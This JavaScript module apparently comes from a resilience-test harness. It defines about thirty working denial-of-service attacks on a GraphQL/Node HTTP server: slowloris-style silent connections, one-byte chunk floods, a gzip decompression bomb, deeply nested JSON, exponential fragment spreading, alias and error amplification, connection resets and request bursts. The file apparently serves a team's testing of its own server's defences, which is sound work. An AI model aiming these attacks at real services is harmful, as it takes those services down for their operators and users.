/*
 * The attacks, each without end; attacker.mjs ends them. `target` has url, port, count, `authorization` (a player's token with
 * every scope) and `tokens`: more of them.
 */
import { createHash } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { client, clients, head, keepOpen, open, pace, request } from './wire.mjs';

const BODY_BYTES = 256 * 1_024;
/** So many bytes in chunks of one. */
const TINY_CHUNKS = '1\r\nx\r\n'.repeat(10_000);

const range = (length, make) => Array.from({ length }, (_, index) => make(index));
/** The same or ever new bodies, with a token. */
const paced =
  (perSecond, bodyOf, headers = {}) =>
  (target) => {
    const send = client(target);
    return pace(perSecond, (number) => send(bodyOf(number), headers));
  };
const always = (body) => () => body;
/** JSON that is expensive to parse. */
const MANY_KEYS = `{"query":"{me{id}}","variables":{${range(20_000, (n) => `"k${n.toString(36)}":${n}`).join()}}}`;

/** Ten connections, ten a second, each with 1.5 MB in one-byte chunks: more of it is a matter of bandwidth. */
const tinyChunks = (path, withToken) => (target) => {
  const use = (socket) => {
    const token = withToken ? [`Authorization: ${target.authorization}`] : [];
    socket.write(head({ path, headers: ['Transfer-Encoding: chunked', ...token] }));
    let left = 26;
    const more = () => left-- > 0 && socket.write(TINY_CHUNKS, (error) => error || setImmediate(more));
    more();
  };
  return keepOpen(target, 10, use, 10);
};

/** Heads and `{`, then silence. */
const silentBodies = (withToken) => (target) =>
  keepOpen(target, 1_050, (socket) => {
    const token = withToken ? [`Authorization: ${target.authorization}`] : [];
    socket.write(`${head({ headers: ['Content-Length: 100', ...token] })}{`);
  });

const NAMES = range(30, (n) => `a${n}: coupons { ...C }`).join(' ');
/** The coupons of a player who has a thousand, under thirty names. */
export const MANY_COUPONS = `{ me { ${NAMES} } } fragment C on Coupon { code value currency isUsed startAt endAt creationDate }`;

export const attacks = {
  manyCoupons: paced(50, always(JSON.stringify({ query: MANY_COUPONS }))),
  // Without a token.
  tinyChunks: tinyChunks('/graphql', false),
  tinyChunksToNowhere: tinyChunks('/nope', false),
  halfSentToNowhere: (target) =>
    keepOpen(target, 1_500, (socket) => {
      socket.write(head({ path: '/nope', headers: [`Content-Length: ${BODY_BYTES}`] }));
      socket.write(Buffer.alloc(BODY_BYTES / 2, 'a'));
    }),
  manyKeysWithoutToken: (target) => paced(50, always(MANY_KEYS))({ ...target, authorization: undefined }),
  silentBodies: silentBodies(false),
  silent: (target) => keepOpen(target, 1_500, () => {}, 3_000),
  /** Ever new connections that send half a request and go: Node accepts one in each turn of its event loop. */
  newConnections: (target) =>
    keepOpen(
      target,
      1_000,
      (socket) => {
        socket.write(`${head({ headers: ['Content-Length: 100'] })}{`);
        setTimeout(() => socket.destroy(), 50);
      },
      4_000,
    ),
  badTokens(target) {
    const send = client({ ...target, authorization: undefined });
    const headers = (number) => ({ authorization: `Bearer ${'x'.repeat(40)}.${number}.bad` });
    return pace(100, (number) => send('{"query":"{me{id}}"}', headers(number)));
  },
  /** Bodies that begin after their refusal and do not end. */
  floodAfterRefusal: (target) =>
    keepOpen(target, 5, (socket) => {
      const piece = Buffer.alloc(65_536, 'x');
      const flood = () => socket.write(piece, (error) => error || flood());
      socket.once('data', flood);
      socket.write(head({ path: '/nope', headers: ['Content-Length: 10000000000'] }));
    }),
  /** Thousands of requests in one write. */
  pipelined: (target) =>
    keepOpen(
      target,
      5,
      (socket) => {
        socket.write('GET /nope HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(1_500));
        socket.resume();
        setTimeout(() => socket.destroy(), 3_000);
      },
      20,
    ),
  headerFlood(target) {
    const headers = [...range(190, (n) => `X-Header-${n}: ${'v'.repeat(60)}`), 'Content-Length: 0'];
    return pace(200, () => {
      const socket = open(target);
      socket.once('connect', () => socket.end(head({ headers })));
      setTimeout(() => socket.destroy(), 1_000);
    });
  },

  // With a token.
  tinyChunksWithToken: tinyChunks('/graphql', true),
  silentBodiesWithToken: silentBodies(true),
  manyKeys: paced(50, always(MANY_KEYS)),
  /** A list in the variables for which a compiler would make one error for each item. */
  hugeEnumList: paced(
    50,
    always(
      `{"query":"query L($f: CouponFilter) { me { coupons(filter: $f) { code } } }","variables":{"f":{"couponTypes":[${'1,'.repeat(129_999)}1]}}}`,
    ),
  ),
  /** Documents of which no two are alike, refused only by validation; and valid ones. */
  newDocuments: paced(50, (number) => ({ query: `{ me { id ${range(240, (n) => `f${n}_${number}`).join(' ')} } }` })),
  newValidDocuments: paced(50, (number) => ({
    query: `query N${number} { me { id ${range(28, (n) => `a${n}x${number}: attributes { displayName firstName email }`).join(' ')} } }`,
  })),
  manyNewDocuments: paced(200, (number) => ({ query: `query M${number} { me { id } }` })),
  longNewDocuments: paced(50, (number) => ({ query: `query F${number} { me { id } } #${'x'.repeat(16_000)}` })),
  overlappingFields: paced(50, (number) => {
    const inner = 'nodes { status } '.repeat(14);
    return { query: `query O${number} { me { ${`referredFriends { ${inner} } `.repeat(14)} } }` };
  }),
  /** Fragments in which each spreads the next one twice. */
  deepFragments: paced(50, (number) => ({
    query: `query D${number} { me { ...F0 } } ${range(24, (n) => `fragment F${n} on Player { ...F${n + 1} ...F${n + 1} }`).join(' ')} fragment F24 on Player { id }`,
  })),
  /** A cached operation near the limit of complexity. */
  largeOperation: paced(50, () => {
    const friend = '__typename playerUniqueId displayName email mobileNumber joinDate status';
    const pages = range(15, (n) => `p${n}: referredFriends(page: ${n + 1}, limit: 200) { nodes { ${friend} } }`);
    return { query: `query Large { me { ${pages.join(' ')} } }` };
  }),
  /** Long aliases in long lists, compressed. */
  longAliases: paced(
    50,
    () => {
      const fields = range(24, (n) => `${'a'.repeat(120)}${n}: displayName`);
      return { query: `query Long { me { referredFriends(limit: 200) { nodes { ${fields.join(' ')} } } } }` };
    },
    { 'accept-encoding': 'gzip' },
  ),
  manyCalls: paced(50, () => {
    const pages = range(30, (n) => `p${n}: referredFriends(page: ${1 + n * 40}, limit: 3) { count }`);
    return { query: `query Calls { me { ${pages.join(' ')} } }` };
  }),
  deepNesting: paced(50, () => {
    const query =
      'mutation D($m: EventMetadata) { trackEvents(input: { playerUniqueId: "attacker", events: [{ name: "a", metadata: $m }] }) { eventNames } }';
    return `${JSON.stringify({ query }).slice(0, -1)},"variables":{"m":${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}}}`;
  }),
  compressedBodies(target) {
    const bomb = gzipSync(Buffer.alloc(100 * 1_024 * 1_024, ' '));
    return paced(20, always(bomb), { 'content-encoding': 'gzip' })(target);
  },
  /** Large responses that are asked for and never read. */
  unreadResponses: (target) =>
    keepOpen(
      target,
      100,
      (socket) => {
        socket.pause();
        const friend = 'playerUniqueId displayName email joinDate';
        const query = `query Unread { me { referredFriends(limit: 200) { nodes { ${friend} } } } }`;
        socket.write(request(target.authorization, JSON.stringify({ query })).repeat(20));
      },
      100,
    ),
  /** Operations of many REST calls, abandoned as soon as they have begun. */
  abandoned(target) {
    const pages = range(18, (n) => `p${n}: referredFriends(page: ${1 + n * 40}, limit: 3) { total }`);
    const text = request(
      target.authorization,
      JSON.stringify({ query: `query Abandoned { me { id ${pages.join(' ')} } }` }),
    );
    return pace(50, () => {
      const socket = open(target);
      socket.once('connect', () => {
        socket.write(text);
        setTimeout(() => socket.resetAndDestroy(), 4);
      });
    });
  },
  /** Clients that reset their connections as soon as they have asked. */
  resets: (target) =>
    pace(200, (number) => {
      const body = JSON.stringify({ query: '{ me { id referralLink } }' });
      const length = body.length + (number % 4 === 0 ? 10 : 0);
      const socket = open(target);
      socket.once('connect', () => {
        socket.write(request(target.authorization, body, length));
        setTimeout(() => socket.resetAndDestroy(), number % 3);
      });
    }),

  // Work that an estimate of the cost misses.
  /** A persisted query with 13,000 line breaks, and 100 fields that the token may not read: each error has a location. */
  async locatedErrors(target) {
    const query = `{ me { id\n${'\n'.repeat(13_000)}${range(100, (n) => `c${n}: coupons { code }`).join('\n')} } }`;
    const sha256Hash = createHash('sha256').update(query).digest('hex');
    const extensions = { persistedQuery: { version: 1, sha256Hash } };
    const send = client({ ...target, authorization: target.tokens.withoutCoupons });
    await send({ query, extensions });
    await pace(20, () => send({ extensions }));
  },
  /** 20 aliases of `trackEvents` with 330 names each, of which the token allows one. */
  eventNames(target) {
    const fields = range(
      20,
      (n) => `t${n}: trackEvents(input: { playerUniqueId: "attacker", events: $e }) { eventNames }`,
    );
    const query = `mutation Events($e: [EventInput!]!) { ${fields.join(' ')} }`;
    const variables = { e: range(330, (n) => ({ name: `event-${n}` })) };
    return paced(
      20,
      always(JSON.stringify({ query, variables })),
    )({ ...target, authorization: target.tokens.oneEvent });
  },
  /** Seven texts of 2,000 characters, which an older store holds, 30 times in one response: 160 requests at once. */
  async longTexts(target) {
    const texts = 'displayName firstName lastName email mobile city country';
    const query = `query Texts { me { ${range(30, (n) => `a${n}: attributes { ${texts} }`).join(' ')} } }`;
    const send = clients({ ...target, authorization: target.tokens.longTexts }, 160);
    // Again after a second: what is more than the token's 50 a second in the long run gets 429.
    for (;;) await Promise.all([...range(160, () => send({ query })), sleep(1_000)]);
  },
  /** Documents of 900 characters, each sent often enough to be compiled, by four players at their rate. */
  compiledDocuments(target) {
    const senders = target.tokens.players.map((authorization) => client({ ...target, authorization }));
    const query = (number) =>
      `query C${number} { ${range(20, (n) => `c${number}x${n}: me { id attributes { displayName } }`).join(' ')} }`;
    return pace(100, (number) => senders[number % senders.length]({ query: query(Math.floor(number / 55)) }));
  },
  /** New idempotency keys. */
  idempotencyKeys: paced(50, (number) => ({
    query: `mutation Keyed($k: String) { trackEvents(input: { playerUniqueId: "attacker", idempotencyKey: $k, events: [{ name: "a" }] }) { eventNames } }`,
    variables: { k: `key-${number}` },
  })),
  /** Two callers, 1,000 requests at once, every two seconds. */
  async bursts(target) {
    const senders = [target.authorization, target.tokens.other].map((authorization) =>
      clients({ ...target, authorization }, 500),
    );
    const query = '{ me { id referralLink coupons { code } referredFriends(limit: 50) { nodes { displayName } } } }';
    for (;;) {
      await Promise.all(senders.flatMap((send) => range(500, () => send({ query }))));
      await sleep(2_000);
    }
  },
};
